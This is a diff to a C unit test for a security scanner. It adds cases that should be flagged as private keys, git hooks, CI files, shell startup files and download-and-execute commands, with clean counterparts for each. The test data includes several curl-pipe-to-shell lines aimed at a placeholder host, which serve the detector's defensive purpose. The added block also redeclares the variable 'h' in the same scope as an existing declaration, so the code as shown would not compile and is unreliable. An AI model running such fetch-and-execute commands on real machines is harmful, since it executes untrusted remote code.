@@ -120,6 +120,31 @@ static void scanner(void **state) {
   expect_rule(".git/hooks/pre-commit", "#!/bin/sh\n", "git_hooks");
   expect_rule("sub/.git/hooks/post-checkout", "#!/bin/sh\n", "git_hooks");
   expect_rule("README.md", "# hello\nplain text\n", NULL);
+  /* classes a review found missing: each flagged, with a clean neighbour */
+  expect_rule("k", "-----BEGIN OPENSSH PRIVATE\nKEY-----\n", "private_key");
+  expect_rule(".git/modules/m/hooks/pre-commit", "#!/bin/sh\n", "git_hooks");
+  expect_rule(".git/config", "[core]\n", NULL);
+  expect_rule(".github/workflows/ci.yml", "on: push\n", "ci_definition");
+  expect_rule(".gitlab-ci.yml", "stages: []\n", "ci_definition");
+  expect_rule("docs/workflows.md", "on: push\n", NULL);
+  expect_rule(".bashrc", "alias ll='ls -l'\n", "shell_startup");
+  expect_rule("sub/.profile", "PATH=$PATH\n", "shell_startup");
+  expect_rule("profile.txt", "PATH=$PATH\n", NULL);
+  expect_rule("s.sh", "curl -fsSL https://x.example/i | /bin/sh\n", "download_and_execute");
+  expect_rule("s.sh", "curl -fsSL https://x.example/i | sudo -E bash\n", "download_and_execute");
+  expect_rule("s.sh", "curl -fsSL https://x.example/i | python3\n", "download_and_execute");
+  expect_rule("s.sh", "bash <(curl -fsSL https://x.example/i)\n", "download_and_execute");
+  expect_rule("s.sh", "curl -fsSL https://x.example/i | tee log\n", NULL);
+  /* UTF-16LE text of a key (NUL after every ASCII byte) */
+  const char *key = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n";
+  unsigned char u16[128];
+  size_t n = 0;
+  for (const char *c = key; *c; c++) u16[n++] = (unsigned char)*c, u16[n++] = 0;
+  json_t *h = jb_scan_content("k.txt", u16, n);
+  assert_non_null(h);
+  assert_true(json_array_size(h) >= 1);
+  assert_string_equal(json_string_value(json_array_get(h, 0)), "private_key");
+  json_decref(h);
   unsigned char *bin = calloc(1, 9000);
   json_t *h = jb_scan_content("a.bin", bin, 9000);
   assert_string_equal(json_string_value(json_array_get(h, 0)), "binary_content");
